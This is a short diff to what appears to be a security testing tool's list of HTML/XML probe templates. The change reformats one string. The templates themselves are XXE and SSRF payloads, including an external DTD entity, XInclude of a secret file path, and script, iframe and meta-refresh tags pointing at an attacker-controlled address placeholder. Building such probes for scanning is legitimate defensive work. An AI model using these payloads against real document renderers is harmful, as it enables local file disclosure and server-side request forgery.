@@ -262,7 +262,8 @@ BODY = (
         '<!DOCTYPE html [<!ENTITY % x SYSTEM "{address}x.dtd"> %x;]><html><body>{body}</body></html>',
         '<!DOCTYPE html SYSTEM "{address}html.dtd"><html><body>{body}</body></html>',
         '<html><head><base href="{address}"><link rel="stylesheet" href="a.css">'
-        '<script src="{address}a.js"></script><meta http-equiv="refresh" content="0;url={address}"></head><body>{body}<img src="{address}i.png">'
+        '<script src="{address}a.js"></script><meta http-equiv="refresh" content="0;url={address}"></head>'
+        '<body>{body}<img src="{address}i.png">'
         '<iframe src="{secret}"></iframe><object data="{secret}"></object></body></html>',
         '<html xmlns:xi="http://www.w3.org/2001/XInclude"><body>{body}'
         '<xi:include href="{secret}" parse="text"/></body></html>',
